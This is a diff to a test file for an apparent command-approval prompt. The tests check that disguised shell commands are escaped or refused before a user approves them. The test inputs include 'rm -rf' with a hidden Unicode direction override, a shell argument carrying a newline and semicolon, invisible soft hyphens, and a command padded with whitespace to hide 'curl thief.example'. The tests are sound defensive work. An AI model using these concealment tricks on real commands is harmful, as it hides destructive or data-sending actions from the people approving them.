@@ -400,6 +400,10 @@ describe('telling, as the settings have it', () => {
     expect(await asked.telling.setCommand(['/bin/rm', '-rf\u202E'])).toEqual({ ok: true, value: false });
     expect(asked.questions[0]).toContain('/bin/rm\n-rf\\u202e');
     expect(asked.telling.view.command.argv).toEqual([]);
+    await asked.telling.setCommand(['/bin/sh', '-c', ' true  \n; false', '', 'a\\u00ad\u00ad']);
+    expect(asked.questions[1]).toContain('/bin/sh\n-c\n" true  \\n; false"\n""\n"a\\\\u00ad\\u00ad"\n\nIt runs');
+    const long = await asked.telling.setCommand(['/bin/sh', '-c', `${' '.repeat(1_000)}; curl thief.example`]);
+    expect([long.ok, asked.questions.length]).toEqual([false, 2]);
     const agreed = setUp();
     await agreed.telling.setCommand(['/bin/true']);
     await agreed.telling.setCommand(['/bin/true']);
